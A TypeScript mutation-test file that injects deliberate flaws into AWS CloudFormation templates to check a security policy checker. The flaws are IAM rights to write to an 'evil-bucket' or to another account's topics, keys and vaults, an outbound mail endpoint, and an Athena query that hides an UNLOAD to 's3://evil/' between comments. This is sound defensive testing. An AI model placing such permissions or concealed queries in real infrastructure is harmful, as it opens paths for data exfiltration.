import { type Body, type MutableTemplates, type Mutant, set } from '../mutant.ts';

interface Policy {
  PolicyDocument: { Statement: Record<string, unknown>[] };
}

const right = (name: string, role: string, statement: Record<string, unknown>): Mutant => ({
  rule: 'rights-lead-into-this-account-only',
  name,
  mutate: (templates: MutableTemplates) =>
    templates.change(
      'AWS::IAM::Role',
      (body: Body) => {
        const [policy] = body.Properties.Policies as Policy[];
        policy?.PolicyDocument.Statement.push({ Effect: 'Allow', ...statement });
      },
      (_, id) => id.startsWith(role),
    ),
});

export const leadingMutants: readonly Mutant[] = [
  right('whoever restores may write to a bucket of somebody else', 'BackupRolesRestore', {
    Action: ['s3:PutObject'],
    Resource: ['arn:aws:s3:::evil-bucket/*'],
  }),
  right('a bucket whose name begins almost like ours is written', 'BackupRolesRestore', {
    Action: ['s3:PutObject'],
    Resource: ['arn:aws:s3:::tre-thames-valleys/*'],
  }),
  right('whoever scans may publish to a topic of another account', 'MalwareProtectionRole', {
    Action: ['sns:Publish'],
    Resource: ['arn:aws:sns:eu-west-2:999988887777:x'],
  }),
  right('a key of another account may encrypt', 'BackupRolesBackup', {
    Action: ['kms:Encrypt'],
    Resource: ['arn:aws:kms:eu-west-2:999988887777:key/*'],
  }),
  right('a pattern of accounts is named', 'BackupRolesBackup', {
    Action: ['backup:CopyFromBackupVault'],
    Resource: ['arn:aws:backup:eu-west-2:*:backup-vault:*'],
  }),
  {
    rule: 'endpoints-stay-in-region-on-aws',
    name: 'a mail service gets an endpoint',
    mutate: (templates) =>
      templates.change(
        'AWS::EC2::VPCEndpoint',
        (body) => set(body, 'ServiceName', 'com.amazonaws.eu-west-2.email-smtp'),
        (_, id) => id === 'AthenaEndpoint',
      ),
  },
  {
    rule: 'data-buckets-have-no-side-door',
    name: 'the names of new objects go out by mail',
    mutate: (templates) =>
      templates.change(
        'AWS::S3::Bucket',
        (body) =>
          set(body, 'NotificationConfiguration.TopicConfigurations', [
            { Event: 's3:ObjectCreated:*', Topic: 'arn:aws:sns:eu-west-2:111122223333:tre-thames-valley-alarms' },
          ]),
        (_, id) => id === 'VaultBucket',
      ),
  },
  {
    rule: 'estate-is-one-account',
    name: 'tags say another deployment, and the zones vanish',
    mutate: (templates) => {
      for (const type of ['AWS::S3::Bucket', 'AWS::KMS::Key']) {
        templates.change(
          type,
          (body) => {
            for (const tag of (body.Properties.Tags ?? []) as { Key: string; Value: string }[]) {
              if (tag.Key === 'tre:deployment') tag.Value = 'tv';
            }
            set(body, 'Retagged', true);
          },
          () => true,
          true,
        );
      }
    },
  },
  {
    rule: 'templates-decide-nothing-later',
    name: 'a substitution makes the form of a reference',
    mutate: (templates) =>
      templates.change('AWS::KMS::Key', (body) =>
        set(body, 'Description', { 'Fn::Sub': '${!tre-thames-valley-safe-settings/VaultKey}' }),
      ),
  },
  {
    rule: 'saved-queries-only-read',
    name: 'what it does hides between two comments',
    mutate: (templates) =>
      templates.change('AWS::Athena::NamedQuery', (body) =>
        set(
          body,
          'QueryString',
          "SELECT 1 /*--*/ UNLOAD (SELECT * FROM t) TO 's3://evil/' /*\n*/ WITH (format = 'CSV')",
        ),
      ),
  },
];
